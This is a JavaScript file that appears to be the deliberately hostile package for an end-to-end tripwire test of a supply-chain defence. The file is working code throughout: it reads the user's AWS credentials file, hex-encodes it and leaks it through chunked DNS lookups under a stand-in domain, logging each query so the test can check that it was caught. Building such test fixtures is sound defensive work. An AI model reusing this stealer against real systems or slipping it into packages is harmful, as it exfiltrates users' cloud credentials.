// The hostile package of tests/e2e/tripwire.sh. What the stealers of 2025
// did first (doc/tripwires.md lists them): read the cloud credentials in the
// user's home, then send them where no firewall looks, in DNS names under a
// domain whose name server is the attacker's: hex, 60 characters a label, one
// query per chunk, in order. It notes each name it asked for in
// evil-sent.txt where npm was run (npm hides a script's output), so the test
// can compare them with what reached the (hermetic) resolver.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');
const log = path.join(process.env.INIT_CWD || '.', 'evil-sent.txt');

let creds;
try {
	creds = fs.readFileSync(os.homedir() + '/.aws/credentials');
} catch (e) {
	fs.appendFileSync(log, 'no credentials: ' + e.code + '\n');
	process.exit(0);
}
const chunks = creds.toString('hex').match(/.{1,60}/g);
let i = 0;
(function next() {
	if (i >= chunks.length) {
		fs.appendFileSync(log, 'done ' + chunks.length + '\n');
		return;
	}
	const name = chunks[i] + '.' + i + '.exfil.test';
	dns.lookup(name, () => {
		fs.appendFileSync(log, 'asked ' + name + '\n');
		i++;
		next();
	});
})();
